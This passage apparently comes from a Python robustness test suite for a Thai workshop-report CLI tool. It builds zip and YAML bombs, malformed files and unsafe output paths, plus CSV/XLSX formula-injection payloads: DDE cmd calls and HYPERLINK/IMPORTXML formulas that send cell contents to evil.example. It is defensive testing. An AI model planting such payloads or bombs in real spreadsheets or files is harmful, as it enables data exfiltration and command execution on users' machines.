    head = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {W_NS}><w:body>'.encode()
    members.append(("word/document.xml", RepeatMember(head, chunk, 1000, b"</w:body></w:document>")))
    write_zip(tmp / "ws" / "transcripts" / "g2.docx", members)
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted 1 GB decompressed docx",
                error_names=["g2.docx"])


@case("bombs", "bomb_xlsx_inflates_1gb")
def _(tmp):
    build_base(tmp)
    row = ('<row><c t="inlineStr"><is><t>พัทลุง</t></is></c><c t="inlineStr"><is><t>น้ำท่วมขัง</t></is></c>'
           '<c t="inlineStr"><is><t>ขุดลอกคลอง</t></is></c></row>').encode()
    chunk = row * (1_000_000 // len(row))
    head = (SHEET_HEAD.format(prolog="", dim="") + xml_row(1, FEEDBACK_HEADER)).encode()
    write_zip(tmp / "ws" / "feedback.xlsx", xlsx_parts(RepeatMember(head, chunk, 1000, SHEET_TAIL.encode())))
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted 1 GB decompressed xlsx",
                error_names=["feedback.xlsx"])


@case("bombs", "bomb_docx_120k_entries")
def _(tmp):
    build_base(tmp)
    p = tmp / "ws" / "transcripts" / "g2.docx"
    members = zip_members(p) + [(f"word/media/i{i}.bin", b"") for i in range(120_000)]
    write_zip(p, members)
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted docx with 120k zip entries",
                error_names=["g2.docx"])


@case("bombs", "bomb_xlsx_declared_size_lies")
def _(tmp):
    build_base(tmp)
    row = ('<row><c t="inlineStr"><is><t>สุราษฎร์ธานี</t></is></c><c t="inlineStr"><is><t>น้ำป่า</t></is></c>'
           '<c t="inlineStr"><is><t>เตือนภัย</t></is></c></row>').encode()
    chunk = row * (1_000_000 // len(row))
    head = (SHEET_HEAD.format(prolog="", dim='<dimension ref="A1:C13"/>') + xml_row(1, FEEDBACK_HEADER)).encode()
    write_zip(tmp / "ws" / "feedback.xlsx", xlsx_parts(RepeatMember(head, chunk, 800, SHEET_TAIL.encode())),
              declared_sizes={"xl/worksheets/sheet1.xml": 4096})
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted xlsx whose sizes lie",
                error_names=["feedback.xlsx"],
                note="sheet1.xml declares 4 KB but inflates to ~800 MB (CRC of the real data)")


@case("bombs", "bomb_xlsx_dimension_xfd1048576")
def _(tmp):
    build_base(tmp)
    hand_xlsx(tmp / "ws" / "feedback.xlsx", FEEDBACK_HEADER, FEEDBACK, dim='<dimension ref="A1:XFD1048576"/>')
    argv, out = run_args(tmp)
    return Case(argv, out, note="12 real rows, dimension claims the whole sheet")


@case("bombs", "bomb_xlsx_far_corner_cell")
def _(tmp):
    build_base(tmp)
    tail = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>ท้ายตาราง</t></is></c></row>'
    hand_xlsx(tmp / "ws" / "feedback.xlsx", FEEDBACK_HEADER, FEEDBACK, tail_rows=tail)
    argv, out = run_args(tmp)
    return Case(argv, out, note="12 rows plus one cell at XFD1048576")


@case("bombs", "bomb_txt_15mb_single_line")
def _(tmp):
    build_base(tmp)
    long = "นายวีระ ชูช่วย: " + "น้ำท่วมหนักถนนขาด " * (15_000_000 // 52)
    lines = transcript_text(G1[:6]) + long + "\n" + transcript_text(G1[6:])
    (tmp / "ws" / "transcripts" / "g1.txt").write_text(lines, encoding="utf-8")
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted 15 MB line", error_names=["g1.txt"])


@case("bombs", "bomb_csv_8mb_cell")
def _(tmp):
    files = base_files()
    files[2] = feedback_entry(path="feedback.csv")
    build_base(tmp, files=files)
    rows = [list(r) for r in FEEDBACK]
    rows[4][1] = "ไฟฟ้าดับนาน" * (8_000_000 // 33)
    write_csv(tmp / "ws" / "feedback.csv", FEEDBACK_HEADER, rows)
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted 8 MB cell", error_names=["feedback.csv"])


@case("bombs", "bomb_txt_600k_short_lines")
def _(tmp):
    build_base(tmp)
    words = ["น้ำท่วม", "เรือ", "อพยพ", "ไฟดับ", "ถุงยังชีพ", "เตือนภัย", "ถนนขาด", "ศูนย์พักพิง"]
    body = "".join(f"ก: {words[i % 8]}{words[(i * 7) % 8]}\n" for i in range(600_000))
    (tmp / "ws" / "transcripts" / "g1.txt").write_text(body, encoding="utf-8")
    argv, out = run_args(tmp, themes=True)
    return Case(argv, out, note="~28 MB, 600k turns; a fast limit refusal or a fast result both pass")


@case("bombs", "bomb_themes_300k_rows")
def _(tmp):
    build_base(tmp)
    rows = [(PROVINCES[i % 3][:3], FEEDBACK[i % 12][1][:8] + f" {i % 97}", "") for i in range(300_000)]
    write_csv(tmp / "big.csv", FEEDBACK_HEADER, rows)
    out = str(tmp / "out")
    return Case(["themes", str(tmp / "big.csv"), "--text-column", "ปัญหาที่พบ", "--out", out, "--quiet"], out,
                note="themes on a 300k-row table")


@case("bombs", "bomb_csv_60k_columns")
def _(tmp):
    files = base_files()
    files[2] = feedback_entry(path="feedback.csv")
    build_base(tmp, files=files)
    extra = [f"ค{i}" for i in range(60_000)]
    write_csv(tmp / "ws" / "feedback.csv", FEEDBACK_HEADER + extra, [list(r) + [""] * 60_000 for r in FEEDBACK])
    argv, out = run_args(tmp)
    return Case(argv, out, note="60k extra (empty) columns")


@case("bombs", "bomb_yaml_billion_laughs")
def _(tmp):
    defs, ref = yaml_bomb()
    build_base(tmp, manifest_text=manifest_yaml_with(tmp, {"provinces": ref}, prefix=defs))
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted alias bomb", error_names=["workshop.yml"])


@case("bombs", "bomb_yaml_deep_nesting")
def _(tmp):
    depth = 6000
    build_base(tmp, manifest_text=manifest_yaml_with(tmp, {"key_issues": "[" * depth + "1" + "]" * depth}))
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted 6000-deep nesting", error_names=["workshop.yml"])


@case("bombs", "bomb_yaml_30mb_manifest")
def _(tmp):
    ki = "".join(f"  {i}: {{label: การแจ้งเตือนและการอพยพของหมู่บ้านที่ {i}}}\n" for i in range(1, 200_000))
    build_base(tmp, manifest_text=manifest_yaml_with(tmp, {"key_issues": "\n" + ki}))
    argv, out = run_args(tmp)
    return Case(argv, out, note="200k key issues (~27 MB YAML)")


@case("bombs", "bomb_codebook_alias_themes")
def _(tmp):
    build_base(tmp)
    defs, ref = yaml_bomb(leaf="เตือนภัย")
    (tmp / "cb_bomb.yml").write_text(
        defs + f"themes:\n  warning:\n    label: การแจ้งเตือน\n    seeds: {ref}\n", encoding="utf-8")
    out = str(tmp / "out")
    return Case(["themes", str(tmp / "ws" / "feedback.csv"), "--text-column", "ปัญหาที่พบ",
                 "--codebook", str(tmp / "cb_bomb.yml"), "--out", out, "--quiet"], out,
                must_fail=True, accept_reason="accepted alias bomb", error_names=["cb_bomb.yml", "codebook"])


# ==========================================================================
# 3. malformed / careless
# ==========================================================================

@case("malformed", "mal_lists_and_maps_swapped")
def _(tmp):
    m = base_manifest()
    m["files"] = {f"f{i}": e for i, e in enumerate(base_files())}
    m["key_issues"] = ["การแจ้งเตือนและการอพยพ", "การฟื้นฟู"]
    m["provinces"] = "นครศรีธรรมราช, พัทลุง"
    build_base(tmp, manifest=m)
    argv, out = run_args(tmp)
    return Case(argv, out)


@case("malformed", "mal_inf_nan_huge_numbers")
def _(tmp):
    files = base_files()
    files[0]["group"] = float("inf")
    files[1]["group"] = float("nan")
    files[2]["header_row"] = 2 ** 64 + 1
    m = base_manifest(files)
    m["key_issues"] = {10 ** 30: {"label": "การแจ้งเตือน"}, -1: {"label": "การฟื้นฟู"}}
    build_base(tmp, manifest=m)
    argv, out = run_args(tmp)
    return Case(argv, out)


@case("malformed", "mal_unhashable_and_thai_keys")
def _(tmp):
    txt = manifest_yaml_with(tmp, {"key_issues": "\n  ? [1, 2]\n  : {label: การแจ้งเตือน}\n  หนึ่ง: {label: การฟื้นฟู}\n"})
    build_base(tmp, manifest_text=txt)
    argv, out = run_args(tmp)
    return Case(argv, out, note="a list used as a mapping key (PyYAML cannot hash it)")


@case("malformed", "mal_null_everywhere")
def _(tmp):
    files = [None, {"path": None, "kind": None}, {"path": "transcripts/g1.txt", "kind": "transcript", "group": None},
             {"path": "feedback.xlsx", "kind": "feedback", "columns": None, "sheet": None, "header_row": None}]
    m = {"title": None, "date": None, "provinces": None, "key_issues": None, "codebook": None, "files": files}
    build_base(tmp, manifest=m)
    argv, out = run_args(tmp)
    return Case(argv, out)


@case("malformed", "mal_impossible_be_date")
def _(tmp):
    txt = manifest_yaml_with(tmp, {"date": "2566-02-30"})
    build_base(tmp, manifest_text=txt)
    argv, out = run_args(tmp)
    return Case(argv, out, note="unquoted 2566-02-30 is a YAML timestamp that cannot be built")


@case("malformed", "mal_empty_inputs")
def _(tmp):
    files = base_files()
    files[2] = feedback_entry(path="feedback.csv")
    build_base(tmp, files=files)
    ws = tmp / "ws"
    (ws / "transcripts" / "g1.txt").write_bytes(b"")
    write_docx(ws / "transcripts" / "g2.docx", [])
    (ws / "feedback.csv").write_bytes(b"")
    write_csv(ws / "swot.csv", SWOT_HEADER, [])
    (ws / "plan.csv").write_bytes("\ufeff".encode())
    argv, out = run_args(tmp)
    return Case(argv, out)


@case("malformed", "mal_placeholders_only")
def _(tmp):
    build_base(tmp)
    ph = ["-", "ไม่มี", "N/A", "n/a", "—", "...", "", "ไม่มีข้อเสนอ", "-", "null", "ไม่มี", "."]
    (tmp / "ws" / "transcripts" / "g1.txt").write_text(
        "".join(f"ผู้เข้าร่วม{i}: {p}\n" for i, p in enumerate(ph)), encoding="utf-8")
    write_xlsx(tmp / "ws" / "feedback.xlsx", FEEDBACK_HEADER, [(PROVINCES[i % 3], p, ph[-1 - i]) for i, p in enumerate(ph)])
    argv, out = run_args(tmp)
    return Case(argv, out, note="placeholder '-' echoed into excluded.csv counts as formula-like under the contract")


@case("malformed", "mal_cp874_transcript")
def _(tmp):
    build_base(tmp)
    (tmp / "ws" / "transcripts" / "g1.txt").write_bytes(transcript_text(G1).encode("cp874"))
    argv, out = run_args(tmp)
    return Case(argv, out, post=expect_text("หอกระจายข่าว"))


@case("malformed", "mal_utf16le_no_bom_transcript")
def _(tmp):
    build_base(tmp)
    (tmp / "ws" / "transcripts" / "g1.txt").write_bytes(transcript_text(G1).encode("utf-16-le"))
    argv, out = run_args(tmp)
    return Case(argv, out, post=expect_text("หอกระจายข่าว"))


@case("malformed", "mal_utf16be_no_bom_csv")
def _(tmp):
    files = base_files()
    files[2] = feedback_entry(path="feedback.csv")
    build_base(tmp, files=files)
    write_csv(tmp / "ws" / "feedback.csv", FEEDBACK_HEADER, FEEDBACK, encoding="utf-16-be")
    argv, out = run_args(tmp)
    return Case(argv, out, post=expect_text("เรือกู้ภัยมีไม่พอ"))


@case("malformed", "mal_png_renamed_txt")
def _(tmp):
    build_base(tmp)
    (tmp / "ws" / "transcripts" / "g1.txt").write_bytes(png_bytes())
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted binary as text", error_names=["g1.txt"])


@case("malformed", "mal_pdf_renamed_csv")
def _(tmp):
    files = base_files()
    files[2] = feedback_entry(path="feedback.csv")
    build_base(tmp, files=files)
    (tmp / "ws" / "feedback.csv").write_bytes(pdf_bytes())
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted binary as text", error_names=["feedback.csv"])


@case("malformed", "mal_random_bytes_docx")
def _(tmp):
    build_base(tmp)
    (tmp / "ws" / "transcripts" / "g2.docx").write_bytes(random.Random(3).randbytes(40_000))
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted random bytes", error_names=["g2.docx"])


@case("malformed", "mal_csv_saved_as_xlsx")
def _(tmp):
    build_base(tmp)
    src = tmp / "ws" / "feedback.csv"
    (tmp / "ws" / "feedback.xlsx").write_bytes(src.read_bytes())
    argv, out = run_args(tmp)
    return Case(argv, out, note="either a clean refusal or reading it as CSV passes")


@case("malformed", "mal_truncated_xlsx")
def _(tmp):
    build_base(tmp)
    p = tmp / "ws" / "feedback.xlsx"
    b = p.read_bytes()
    p.write_bytes(b[: int(len(b) * 0.6)])
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted truncated xlsx", error_names=["feedback.xlsx"])


@case("malformed", "mal_cr_inside_cells_and_cr_eol")
def _(tmp):
    files = base_files()
    files[2] = feedback_entry(path="feedback.csv")
    build_base(tmp, files=files)
    rows = [list(r) for r in FEEDBACK]
    rows[1][1] = "เรือกู้ภัย\rมีไม่พอ\r\rต้องยืมจากตำบลอื่น"
    rows[2][2] = "\rสำรวจอาคารสำรองไว้ล่วงหน้า"
    rows[3][1] = "ถุงยังชีพ\r\nกระจาย\nไม่ทั่วถึง"
    write_csv(tmp / "ws" / "feedback.csv", FEEDBACK_HEADER, rows)
    # swot with old-Mac CR-only line endings
    buf = "\r".join(",".join(r) for r in [SWOT_HEADER] + [list(x) for x in SWOT]) + "\r"
    (tmp / "ws" / "swot.csv").write_bytes(buf.encode("utf-8"))
    argv, out = run_args(tmp)
    return Case(argv, out)


@case("malformed", "mal_nul_bytes_in_transcript")
def _(tmp):
    build_base(tmp)
    text = transcript_text(G1)
    text = text.replace("ศูนย์พักพิง", "ศูนย์\x00พักพิง").replace("\nนายวีระ", "\n\x00\x00นายวีระ")
    (tmp / "ws" / "transcripts" / "g1.txt").write_text(text, encoding="utf-8")
    argv, out = run_args(tmp)
    return Case(argv, out, note="three NUL bytes in an otherwise normal UTF-8 transcript")


@case("malformed", "mal_mostly_control_chars")
def _(tmp):
    build_base(tmp)
    rnd = random.Random(11)
    ctl = [chr(c) for c in list(range(1, 9)) + [11, 12] + list(range(14, 32)) + [127]]
    lines = []
    for s, t in G1:
        junk = "".join(rnd.choice(ctl) for _ in range(len(t) * 4))
        lines.append(f"{s[:2]}{junk}: {t[:3]}{junk}\n")
    (tmp / "ws" / "transcripts" / "g1.txt").write_text("".join(lines), encoding="utf-8")
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted control-char file", error_names=["g1.txt"])


@case("malformed", "mal_codebook_wrong_shape")
def _(tmp):
    build_base(tmp, codebook=True)
    (tmp / "ws" / "codebook.yml").write_text(
        "themes:\n  warning: แจ้งเตือน\n  evacuation: [1, 2]\n  relief:\n    seeds: 7\n    key_issue: [หนึ่ง]\n",
        encoding="utf-8")
    argv, out = run_args(tmp, themes=True)
    return Case(argv, out, must_fail=True, accept_reason="accepted malformed codebook", error_names=["codebook"])


@case("malformed", "mal_workshop_yml_tabs_and_unclosed")
def _(tmp):
    txt = yaml_dump(base_manifest()).replace("\n  - path: swot.csv", "\n\t- path: swot.csv")
    txt += "provinces: [นครศรีธรรมราช, พัทลุง\n"
    build_base(tmp, manifest_text=txt)
    argv, out = run_args(tmp)
    return Case(argv, out, must_fail=True, accept_reason="accepted invalid YAML", error_names=["workshop.yml"])


# ==========================================================================
# 4. formulas
# ==========================================================================

FX = ['=HYPERLINK("http://evil.example/?q="&A1,"คลิกดูรายละเอียด")', "+66 ถนนขาด", "-ไฟดับทั้งตำบล",
      "@ผู้ใหญ่บ้านไม่รับสาย", "\t=1+1 เรือไม่พอ", "\r=2+3 ศูนย์พักพิงเต็ม", "\n@SUM(1) น้ำป่า"]


@case("formulas", "fx_feedback_xlsx_all_columns")
def _(tmp):
    build_base(tmp)
    rows = [list(r) for r in FEEDBACK]
    for i, f in enumerate(FX):
        rows[i][1] = f + " " + rows[i][1]
        rows[i][2] = FX[(i + 3) % len(FX)] + " " + rows[i][2]
    rows[7][0] = "=นครศรีธรรมราช"
    rows[8][0] = "+พัทลุง"
    rows[9][0] = "@สุราษฎร์ธานี"
    rows[10][1] = "-3"  # a plain number is fine
    write_xlsx(tmp / "ws" / "feedback.xlsx", FEEDBACK_HEADER, rows)
    argv, out = run_args(tmp, themes=True)
    return Case(argv, out)


@case("formulas", "fx_transcript_speakers_and_lines")
def _(tmp):
    build_base(tmp)
    g1 = list(G1)
    g1[1] = ("=HYPERLINK(\"http://x\")", "หมู่บ้านเราได้รับแจ้งเตือนช้ามาก")
    g1[2] = ("@นายสมพงษ์", "=1+1 หอกระจายข่าวใช้ไม่ได้")
    g1[4] = ("+นางสาวพิมพ์ลดา", "+อาสาสมัครมีเรือแค่สองลำ")
    g1[5] = ("-นายวีระ", "-ศูนย์พักพิงไม่พอ")
    text = transcript_text(g1) + "\tผู้ดำเนินรายการ: \t=SUM(A1:A3) ขอบคุณครับ\n"
    (tmp / "ws" / "transcripts" / "g1.txt").write_text(text, encoding="utf-8")
    g2 = list(G2)
    g2[1] = ("นายอนุชา ด้วงทอง", "=cmd|' /C calc'!A0 สวนยางเสียหาย")
    g2[2] = ("=นางจันทร์เพ็ญ", "@เงินชดเชยมาช้า")
    write_docx(tmp / "ws" / "transcripts" / "g2.docx", g2)
    argv, out = run_args(tmp, themes=True)
    return Case(argv, out)


@case("formulas", "fx_swot_group_and_plan_horizon")
def _(tmp):
    build_base(tmp)
    swot = [list(r) for r in SWOT]
    swot[0][0] = "=1+1"
    swot[1][0] = "@กลุ่ม1"
    swot[2][2] = "=โอกาส " + swot[2][2]
    swot[3][1] = "+อุปสรรค"
    swot[5][2] = "-" + swot[5][2]
    write_csv(tmp / "ws" / "swot.csv", SWOT_HEADER, swot)
    plan = [list(r) for r in PLAN]
    plan[0][0] = "=3 เดือน"
    plan[2][0] = "+6 เดือน"
    plan[4][1] = "@" + plan[4][1]
    plan[5][1] = "\t=" + plan[5][1]
    write_csv(tmp / "ws" / "plan.csv", PLAN_HEADER, plan)
    argv, out = run_args(tmp, themes=True)
    return Case(argv, out)


@case("formulas", "fx_dde_payloads_csv")
def _(tmp):
    files = base_files()
    files[2] = feedback_entry(path="feedback.csv")
    build_base(tmp, files=files)
    dde = ["=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "+cmd|' /C notepad'!'A1'",
           "-2+3+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
           '=IMPORTXML(CONCAT("http://evil.example/?v=",B2),"//a")', "=WEBSERVICE(\"http://x\")"]
    rows = [list(r) for r in FEEDBACK]
    for i, d in enumerate(dde):
        rows[i][1] = d + " ปัญหาน้ำท่วม"
        rows[i + 4][2] = d
    write_csv(tmp / "ws" / "feedback.csv", FEEDBACK_HEADER, rows)
    argv, out = run_args(tmp, themes=True)
    return Case(argv, out)


@case("formulas", "fx_workshop_yml_labels_provinces")
def _(tmp):
    m = base_manifest()
    m["title"] = "=HYPERLINK(\"http://x\",\"ถอดบทเรียน\")"
    m["provinces"] = ["=นครศรีธรรมราช", "+สุราษฎร์ธานี", "พัทลุง"]
    m["key_issues"] = {1: {"label": "@การแจ้งเตือนและการอพยพ"}, 2: {"label": "-การฟื้นฟูอาชีพ"}}
    m["files"][0]["group"] = "=1"
    build_base(tmp, manifest=m)
    rows = [list(r) for r in FEEDBACK]
    rows[0][0] = "=นครศรีธรรมราช"
    rows[2][0] = "+สุราษฎร์ธานี"
    write_xlsx(tmp / "ws" / "feedback.xlsx", FEEDBACK_HEADER, rows)
    argv, out = run_args(tmp, themes=True)
    return Case(argv, out)


@case("formulas", "fx_formula_file_names")
def _(tmp):
    files = base_files()
    files[0]["path"] = "transcripts/=HYPERLINK(1).txt"
    files[3]["path"] = "+swot.csv"
    files[4]["path"] = "@plan.csv"
    build_base(tmp, files=files)
    ws = tmp / "ws"
    (ws / "transcripts" / "g1.txt").rename(ws / "transcripts" / "=HYPERLINK(1).txt")
    (ws / "swot.csv").rename(ws / "+swot.csv")
    (ws / "plan.csv").rename(ws / "@plan.csv")
    argv, out = run_args(tmp, themes=True)
    return Case(argv, out, note="file names end up in source_file / statement_id columns")


@case("formulas", "fx_themes_csv_text_column")
def _(tmp):
    build_base(tmp)
    rows = [list(r) for r in FEEDBACK]
    for i, f in enumerate(FX + ["=cmd|' /C calc'!A0", "-ลดขั้นตอน", "+เพิ่มเรือ", "@ทุกตำบล"]):
        if i < len(rows):
            rows[i][1] = f + " " + rows[i][1]
    write_csv(tmp / "t.csv", FEEDBACK_HEADER, rows)
    out = str(tmp / "out")
    return Case(["themes", str(tmp / "t.csv"), "--text-column", "ปัญหาที่พบ", "--out", out, "--seed", "3", "--quiet"], out)


@case("formulas", "fx_themes_xlsx_id_column_real_formulas")
def _(tmp):
    build_base(tmp)
    ids = ["=1+1", "@A1", "+7ก", "-x1", "\tr5", "\rr6", "=ROW()", "ok8", "ok9", "=A2", "ok11", "@B"]
    rows = []
    for i, r in enumerate(FEEDBACK):
        txt = r[1] if i % 3 else "=" + '"' + r[1] + '"'  # a real formula cell returning Thai text
        rows.append((ids[i], txt))
    write_xlsx(tmp / "t.xlsx", ["รหัส", "ปัญหา"], rows, sheet="แบบสอบถาม")
    out = str(tmp / "out")
    return Case(["themes", str(tmp / "t.xlsx"), "--text-column", "ปัญหา", "--id-column", "รหัส",
                 "--sheet", "แบบสอบถาม", "--out", out, "--quiet"], out)


@case("formulas", "fx_codebook_labels_themes")
def _(tmp):
    build_base(tmp)
    (tmp / "cb.yml").write_text(
        "themes:\n"
        "  warning:\n    label: '=HYPERLINK(\"http://x\",\"เตือนภัย\")'\n    seeds: [แจ้งเตือน, เตือนภัย]\n"
        "  evacuation:\n    label: '@การอพยพ'\n    description: '+อพยพผู้สูงอายุ'\n    seeds: [อพยพ, เรือ, ศูนย์พักพิง]\n"
        "  relief:\n    label: \"\\t=1+1 การเยียวยา\"\n    seeds: ['-เยียวยา', ถุงยังชีพ]\n",
        encoding="utf-8")
    out = str(tmp / "out")
    return Case(["themes", str(tmp / "ws" / "feedback.csv"), "--text-column", "ปัญหาที่พบ", "--codebook",
                 str(tmp / "cb.yml"), "--out", out, "--quiet"], out)


# ==========================================================================
# 5. outputs
# ==========================================================================

def _keep_all(tmp):
    keep = ws_hashes(tmp)
    if (tmp / "outside").exists():
        keep.update(ws_hashes(tmp, "outside"))
    return keep


@case("outputs", "out_is_workshop_folder")
def _(tmp):
    build_base(tmp)
    argv, out = run_args(tmp, out=tmp / "ws")
    return Case(argv, None, must_fail=True, accept_reason="accepted --out = input folder",
                keep_paths=_keep_all(tmp), error_names=["--out", "ws"])


@case("outputs", "out_is_parent_of_workshop")
def _(tmp):
    build_base(tmp)
    (tmp / "outside").mkdir()
    (tmp / "outside" / "thesis_draft.docx").write_bytes(b"PK-not-really")
    argv, out = run_args(tmp, out=tmp)
    return Case(argv, None, must_fail=True, accept_reason="accepted --out = parent of input folder",
                keep_paths=_keep_all(tmp), error_names=["--out", str(tmp)])


@case("outputs", "out_is_input_subfolder")
def _(tmp):
    build_base(tmp)
    argv, out = run_args(tmp, out=tmp / "ws" / "transcripts")
    return Case(argv, None, must_fail=True, accept_reason="accepted --out = folder holding inputs",
                keep_paths=_keep_all(tmp), error_names=["--out", "transcripts"])


@case("outputs", "out_new_subfolder_of_workshop")
def _(tmp):
    build_base(tmp)
    argv, out = run_args(tmp, out=tmp / "ws" / "results")
    return Case(argv, out, keep_paths=_keep_all(tmp),
                note="ambiguous: a fresh subfolder holds no inputs; passes if refused OR inputs stay intact")


@case("outputs", "out_symlink_to_workshop")
def _(tmp):
    build_base(tmp)
    os.symlink(tmp / "ws", tmp / "report_out")
    argv, out = run_args(tmp, out=tmp / "report_out")
    return Case(argv, None, must_fail=True, accept_reason="accepted --out symlink to input folder",
                keep_paths=_keep_all(tmp), error_names=["--out", "report_out"])


@case("outputs", "out_is_filesystem_root")
def _(tmp):
    build_base(tmp)
    argv, out = run_args(tmp, out="/")
    return Case(argv, None, must_fail=True, accept_reason="accepted --out /", error_names=["--out", "/"],
                strict_sandbox=True,
                note="strict sandbox: all mounts read-only, /tmp and /root throw-away overlays; write attempts traced")


@case("outputs", "out_is_etc")
def _(tmp):
    build_base(tmp)
    argv, out = run_args(tmp, out="/etc")
    return Case(argv, None, must_fail=True, accept_reason="accepted --out /etc", error_names=["--out", "/etc"],
                strict_sandbox=True,
                note="strict sandbox: all mounts read-only, /tmp and /root throw-away overlays; write attempts traced")


@case("outputs", "out_is_existing_file")
def _(tmp):
    build_base(tmp)
    f = tmp / "report_2566.txt"
    f.write_text("รายงานฉบับร่าง ห้ามลบ\n", encoding="utf-8")
    argv, out = run_args(tmp, out=f)
    return Case(argv, None, must_fail=True, accept_reason="accepted --out = existing file",
                keep_paths={str(f): sha(f), **_keep_all(tmp)}, error_names=["--out", "report_2566.txt"])


@case("outputs", "out_below_a_file")
def _(tmp):
    build_base(tmp)
    f = tmp / "report_2566.txt"
    f.write_text("รายงานฉบับร่าง ห้ามลบ\n", encoding="utf-8")
    argv, out = run_args(tmp, out=f / "out")
    return Case(argv, None, must_fail=True, accept_reason="accepted --out below a file",
                keep_paths={str(f): sha(f)}, error_names=["--out", "report_2566.txt"])


def snapshot_dir(d: Path) -> dict:
    if not d.exists():
        return {}
    return {str(p.relative_to(d)): (sha(p) if p.is_file() else "<dir>") for p in sorted(d.rglob("*"))}


def leftovers(tmp: Path, known) -> list:
    return sorted(n for n in os.listdir(tmp) if n not in known)


@case("outputs", "out_stale_files_from_earlier_run")
def _(tmp):
    build_base(tmp)
    out = tmp / "out"
    argv, _ = run_args(tmp)

    def runner(ctx):
        reasons = []
        r1 = ctx.execute(argv, label="first run")
        reasons += ctx.check(r1, out=str(out))
        if r1.rc != 0:
            return reasons + ["setup run failed"]
        (out / "themes_old_k7.csv").write_text("id,label\nt01,เก่า\n", encoding="utf-8")
        (out / "old").mkdir()
        (out / "old" / "notes.txt").write_text("ของเก่า\n", encoding="utf-8")
        r2 = ctx.execute(argv, label="second run")
        reasons += ctx.check(r2, out=str(out))
        if r2.rc == 0:
            for p in (out / "themes_old_k7.csv", out / "old"):
                if p.exists():
                    reasons.append("stale file survived")
                    break
        return reasons
    return Case(argv, str(out), runner=runner)


@case("outputs", "out_two_concurrent_runs")
def _(tmp):
    build_base(tmp)
    # a second, different workshop (B) in its own folder
    b = tmp / "wsB"
    (b / "transcripts").mkdir(parents=True)
    (b / "transcripts" / "g1.txt").write_text(transcript_text(G2 + G1[:4]), encoding="utf-8")
    write_csv(b / "feedback.csv", FEEDBACK_HEADER, FEEDBACK[::-1] + FEEDBACK[:3])
    mb = {"title": TITLE + " (รอบสอง)", "date": "2567-01-15", "provinces": PROVINCES, "key_issues": KEY_ISSUES,
          "files": [{"path": "transcripts/g1.txt", "kind": "transcript", "group": 1}, feedback_entry("feedback.csv")]}
    (b / "workshop.yml").write_text(yaml_dump(mb), encoding="utf-8")
    out = tmp / "out"
    a_argv, _ = run_args(tmp, out=out)
    b_argv, _ = run_args(tmp, wy=b / "workshop.yml", out=out)

    def runner(ctx):
        ra, rb = ctx.execute_many([a_argv, b_argv])
        reasons = []
        for r in (ra, rb):
            reasons += ctx.check(r, out=None, time_limit=25.0)
        if ra.rc != 0 and rb.rc != 0:
            reasons.append("both concurrent runs failed")
        if out.exists() or ra.rc == 0 or rb.rc == 0:
            reasons += ctx.manifest_check(str(out))
            reasons += ctx.content_checks(str(out))
        known = {"ws", "wsB", "out"}
        left = leftovers(tmp, known)
        if left:
            reasons.append(f"staging leftover: {left[0]}")
        return reasons
    return Case(a_argv, str(out), runner=runner, time_limit=25.0,
                note="2 cores: each of the two runs is allowed 25 s instead of 10 s")


@case("outputs", "out_sigkill_mid_run")
def _(tmp):
    build_base(tmp)
    b = tmp / "wsB"
    (b / "transcripts").mkdir(parents=True)
    (b / "transcripts" / "g1.txt").write_text(transcript_text(G2 + G1), encoding="utf-8")
    mb = {"title": TITLE, "date": "2567-01-15", "provinces": PROVINCES, "key_issues": KEY_ISSUES,
          "files": [{"path": "transcripts/g1.txt", "kind": "transcript", "group": 1}]}
    (b / "workshop.yml").write_text(yaml_dump(mb), encoding="utf-8")
    out = tmp / "out"
    a_argv, _ = run_args(tmp, out=out)
    b_argv, _ = run_args(tmp, wy=b / "workshop.yml", out=out)

    def runner(ctx):
        import time as _t
        reasons = []
        r0 = ctx.execute(a_argv, label="setup run")
        reasons += ctx.check(r0, out=str(out))
        if r0.rc != 0:
            return reasons + ["setup run failed"]
        before = snapshot_dir(out)
        known = {"ws", "wsB", "out"}
        # kill 1: as soon as anything new appears next to out/ (staging) or out/ changes, + 0.15 s
        seen = {"t": None}

        def when_staging():
            if seen["t"] is None:
                if leftovers(tmp, known) or snapshot_names(out) != set(before):
                    seen["t"] = _t.monotonic()
                return False
            return _t.monotonic() - seen["t"] >= 0.15
        r1 = ctx.execute(b_argv, kill_when=when_staging, label="kill at staging")
        # kill 2: half-way through (by the setup run's wall time)
        half = r0.wall * 0.5
        r2 = ctx.execute(b_argv, kill_after=half, label="kill half-way")
        for r in (r1, r2):
            if r.killed == "by-case":
                now = snapshot_dir(out)
                if now != before:
                    reasons.append(f"killed run ({r.label}) changed output folder")
            elif r.killed:
                reasons += ctx.check(r, out=None)
            else:  # finished before we could kill it
                reasons += ctx.check(r, out=None)
                before = snapshot_dir(out)
        ctx.log(f"kills: {r1.label}={r1.killed}, {r2.label}={r2.killed}")
        r3 = ctx.execute(a_argv, label="run after kills")
        reasons += ctx.check(r3, out=str(out))
        left = leftovers(tmp, known)
        if left:
            reasons.append(f"staging leftover after next run: {left[0]}")
        return reasons
    return Case(a_argv, str(out), runner=runner)


def snapshot_names(d: Path):
    try:
        return set(os.listdir(d))
    except OSError:
        return set()


# ==========================================================================
# 6. inputs taken at face value: duplicates, option ranges
# ==========================================================================

@case("face_value", "dup_same_entry_twice")
def _(tmp):
    files = base_files()
    files.append(dict(files[0]))
